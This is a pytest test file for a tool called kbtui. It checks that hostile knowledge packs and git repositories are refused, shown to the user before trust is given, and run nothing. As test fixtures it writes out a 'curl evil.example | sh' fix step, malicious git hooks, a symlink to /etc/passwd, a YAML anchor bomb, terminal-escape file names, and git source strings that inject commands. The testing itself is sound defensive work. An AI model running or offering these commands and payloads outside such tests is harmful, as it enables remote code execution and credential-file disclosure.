"""A hostile pack does nothing until it is trusted, and harms nothing after."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from kbtui.cli import main
from kbtui.engine import Engine, Request
from kbtui.errors import InputError, PackError
from kbtui.kb import trust
from kbtui.kb.cache import open_knowledge
from kbtui.kb.folder import MOST_FILES, walk
from kbtui.kb.load import load_pack
from kbtui.kb.packs import Pack, content_hash, discover, shipped, stamp
from kbtui.kb.powers import powers
from kbtui.kb.source import read_extras, read_packs
from kbtui.machine.team import BROUGHT
from kbtui.team import added, git
from tests.team.conftest import node, write

BOMB = "kind: problem\ntitle: &a [x, x]\nsummary: [*a, *a, *a]\n"
FIX = "fixes:\n- title: Trust me\n  steps:\n  - run: curl evil.example | sh\n  verify: driver.module_loaded\n"
PROBE = "kind: probe\ntitle: A look\nrun: [touch, {}]\nparse: regex\nfacts:\n  team.x: {{find: x, type: bool, meaning: x}}\n"


@pytest.fixture
def hostile(tmp_path) -> Path:
    """Everything at once."""
    folder = tmp_path / "hostile"
    node(folder, "fires-always", "Everything is broken", ".", "at_once: Send money at once\n" + FIX)
    node(folder, "fires-often", "All is lost", "[aeiou]", "")
    node(folder, "bad-pattern", "No pattern", "(((", "")
    write(folder, "problems/lab/bomb.yaml", BOMB)
    write(folder, "problems/lab/escape.yaml", 'kind: problem\ntitle: "\\e]0;owned\\a red"\nsummary: x\n')
    write(folder, "problems/lab/turned.yaml", 'kind: problem\ntitle: "abc \\u202e cba"\nsummary: x\n')
    write(folder, "problems/lab/huge.yaml", "kind: problem\n# " + "x" * (1 << 20) + "\n")
    write(folder, "problems/lab/\x1b[31mred.yaml", "kind: problem\ntitle: red\nsummary: x\n")
    write(folder, "problems/lab/off.yaml", "kind: problem\ndisable: true\nbecause: mine is better\n")
    write(folder, "problems/lab/nouveau-conflict.yaml", "kind: problem\ndisable: true\nbecause: mine is better\n")
    write(folder, "probes/look.yaml", PROBE.format(tmp_path / "ran"))
    write(folder, "notices.yaml", "notices: [{text: Call this number, until: 2099-01-01}]\n")
    write(folder, "learned.yaml", "cases: 9\nproblems: {nouveau-conflict: {cases: 9, unknown: 100000}}\n")
    outside = write(tmp_path, "outside.yaml", "kind: problem\ntitle: a secret of yours\nsummary: x\n")
    (folder / "problems" / "lab" / "linked.yaml").symlink_to(outside)
    (folder / "problems" / "linked-folder").symlink_to(tmp_path)
    (folder / "problems" / "lab" / "endless.yaml").symlink_to("/dev/zero")
    os.mkfifo(folder / "problems" / "lab" / "pipe.yaml")
    return folder


def test_untrusted_it_only_adds_and_what_is_refused_is_said(hostile, tmp_path, monkeypatch):
    pack = Pack("hostile", hostile)
    nodes, mistakes = read_packs([shipped(), pack])
    mine = {name: loaded.node for (kind, name), loaded in nodes.items() if loaded.pack == pack and kind == "problem"}
    assert set(mine) == {"fires-always", "fires-often", "bad-pattern"}
    assert all(not n.evidence and n.at_once is None for n in mine.values())
    assert ("problem", "nouveau-conflict") in nodes
    assert nodes["probe", "look"].node.run is None
    learnt, _ = read_extras([shipped(), pack])
    assert not learnt.problems and not learnt.notices
    said = "\n".join(str(m) for m in mistakes)
    for words in (
        "fires-always.yaml:1:1: error: the sign '.' is left out: it matches",
        "the sign '(((' is left out",
        "bomb.yaml:2:8: error: anchor &a",
        "escape.yaml:2:8: error: the character \\x1b drives a terminal",
        "turned.yaml:2:8: error: the character \\u202e",
        "huge.yaml:1:1: error: the file is over",
        "linked.yaml:1:1: error: is a link",
        "linked-folder:1:1: error: is a link",
        "endless.yaml:1:1: error: is a link",
        "pipe.yaml:1:1: error: is no plain file",
        "an untrusted pack may not disable",
    ):
        assert words in said, words
    assert "\x1b" not in said and "a secret of yours" not in said


def test_trusted_it_harms_nothing(hostile, tmp_path, monkeypatch):
    monkeypatch.setenv("KBTUI_PACKS", str(hostile))
    trust.trust(Pack("hostile", hostile))
    engine = Engine.open()
    found = engine.diagnose(Request(text="the screen stays black after I installed the driver"))
    assert "fires-often" not in [c.id for c in found.causes[:3]] and not found.at_once
    assert BROUGHT["look"].run == ["touch", str(tmp_path / "ran")]
    assert not (tmp_path / "ran").exists()  # no diagnosis of a text looks at a machine


def test_what_it_would_run_is_shown_before_it_is_trusted(hostile, capsys):
    assert main(["trust", str(hostile)]) == 2  # not a terminal: shown, and nothing recorded
    said = capsys.readouterr()
    assert "runs by itself: touch " in said.out and "a fix tells you to run: curl evil.example | sh" in said.out
    assert "is shown above everything: Send money at once" in said.out and "--yes" in said.err
    assert "\x1b" not in said.out.replace("\x1b[1m", "").replace("\x1b[0m", "")
    assert not trust.is_trusted(Pack("hostile", hostile))
    assert main(["trust", str(hostile), "--yes"]) == 0
    assert trust.is_trusted(Pack("hostile", hostile))


@pytest.mark.parametrize("file", ["probes/look.yaml", "notices.yaml", "learned.yaml", "problems/lab/new.yaml"])
def test_a_change_asks_again(hostile, file):
    pack = Pack("hostile", hostile)
    trust.trust(pack)
    before = stamp([pack])
    with (hostile / file).open("a") as changed:
        changed.write("# more\n")
    assert not trust.is_trusted(pack) and trust.was_trusted(pack) and stamp([pack]) != before


def test_knowledge_alone_needs_no_trust(tmp_path, capsys):
    node(tmp_path / "plain", "our-trouble", "Our own trouble", "labguard refused it")
    assert powers(Pack("plain", tmp_path / "plain")) == []
    assert main(["trust", str(tmp_path / "plain")]) == 0
    assert "It needs no trust" in capsys.readouterr().out
    assert not trust.recorded()


def test_many_causes_push_nobody_aside(tmp_path):
    pack = Pack("crowd", tmp_path / "crowd")
    for i in range(30):
        node(
            pack.path,
            f"crowd-{i}",
            f"A crowd of causes {i}",
            f"crowd {i} shouts",
            "cause_of: [{gpu-not-detected: often}]\n",
        )
    nodes, mistakes = read_packs([shipped(), pack])
    edges = [n.node.cause_of for (k, _), n in nodes.items() if k == "problem" and n.pack == pack and n.node.cause_of]
    assert edges == [[{"gpu-not-detected": "rarely"}]] * 5
    assert sum("more than 5 causes" in m.message for m in mistakes) == 25


def test_a_flood_of_files_is_cut_off(tmp_path, monkeypatch):
    monkeypatch.setattr("kbtui.kb.folder.MOST_FILES", 20)
    for i in range(50):
        write(tmp_path, f"flood/problems/lab/n-{i}.yaml", "x")
    found = list(walk(tmp_path / "flood" / "problems"))
    assert len(found) < 50 and "more than" in found[-1].refused and MOST_FILES > 1000
    assert len(load_pack(Pack("flood", tmp_path / "flood"))[1]) <= len(found)


def test_names_in_the_list_of_added_packs_lead_nowhere_else(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    write(tmp_path, "victim/problems/a/b.yaml", "x")
    one = '{"source": "x", "kind": "folder", "commit": ""}'
    write(tmp_path, "kbtui/packs/packs.json", f'{{"../../victim": {one}, "..": {one}}}')
    assert [p.name for p in discover()] == ["kbtui"]
    for name in ("../../victim", "..", "a/b", "-x"):
        with pytest.raises(InputError):
            added.add(str(tmp_path / "victim"), name)
    with pytest.raises(InputError):
        added.remove("victim")
    assert (tmp_path / "victim" / "problems" / "a" / "b.yaml").exists()


def test_a_copy_takes_plain_node_files_and_nothing_else(hostile, monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    write(hostile, "hooks/post-checkout", "#!/bin/sh\ntouch /tmp/owned\n")
    pack = added.add(str(hostile))
    kept = [p for p in pack.path.rglob("*") if not p.is_dir()]
    assert kept and all(p.is_file() and not p.is_symlink() and p.suffix == ".yaml" for p in kept)
    assert not any(p.name in ("linked.yaml", "endless.yaml", "pipe.yaml", "huge.yaml") for p in kept)


@pytest.mark.parametrize(
    "source", ["ext::sh -c touch% /tmp/x", "--upload-pack=touch /tmp/x", "fd::17", "-x", "a b://c"]
)
def test_an_address_that_would_run_something_is_refused(source):
    with pytest.raises(PackError, match="no address"):
        git.check_source(source)


@pytest.mark.skipif(not shutil.which("git"), reason="git is not installed")
def test_a_hostile_repository_runs_nothing(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    evil, ran = tmp_path / "evil", tmp_path / "ran"
    evil.mkdir()
    run = [f"-c{k}" for k in ("user.name=x", "user.email=x@example.org", "protocol.file.allow=always")]
    for words in (["init", "-q", "-b", "main"],):
        subprocess.run(["git", *words], cwd=evil, check=True)
    node(evil, "our-trouble", "Our own trouble", "labguard refused it")
    write(evil, ".gitattributes", "*.yaml filter=evil\n")
    (evil / "problems" / "lab" / "passwd.yaml").symlink_to("/etc/passwd")
    hook = write(evil, ".githooks/post-checkout", f"#!/bin/sh\ntouch {ran}\n")
    hook.chmod(0o755)
    subprocess.run(["git", "add", "-A"], cwd=evil, check=True)
    subprocess.run(["git", *[w for o in run for w in (o[:2], o[2:])], "commit", "-qm", "x"], cwd=evil, check=True)
    home_hooks = tmp_path / "template" / "hooks"
    home_hooks.mkdir(parents=True)
    shutil.copy(hook, home_hooks / "post-checkout")
    monkeypatch.setenv("GIT_TEMPLATE_DIR", str(tmp_path / "template"))
    pack = added.add(str(evil))
    assert not ran.exists()
    assert not (
        pack.path / "problems" / "lab" / "passwd.yaml"
    ).is_symlink()  # written as a plain file, which is no node
    nodes, _ = load_pack(pack)
    assert [n.id for n in nodes] == ["our-trouble"]
    assert added.update(pack.name).before == pack.commit
    assert added.remove(pack.name) == pack.path and not pack.path.exists()


def test_a_changed_pack_is_built_anew_and_an_old_cache_never_answers(tmp_path, monkeypatch):
    node(tmp_path / "p", "our-trouble", "Our own trouble", "labguard refused it")
    packs = [shipped(), Pack("p", tmp_path / "p")]
    assert "our-trouble" in open_knowledge(packs)[0].problems
    (tmp_path / "p" / "problems" / "lab" / "our-trouble.yaml").unlink()
    assert "our-trouble" not in open_knowledge(packs)[0].problems
    assert content_hash(packs[1]) == content_hash(Pack("other", tmp_path / "nothing"))
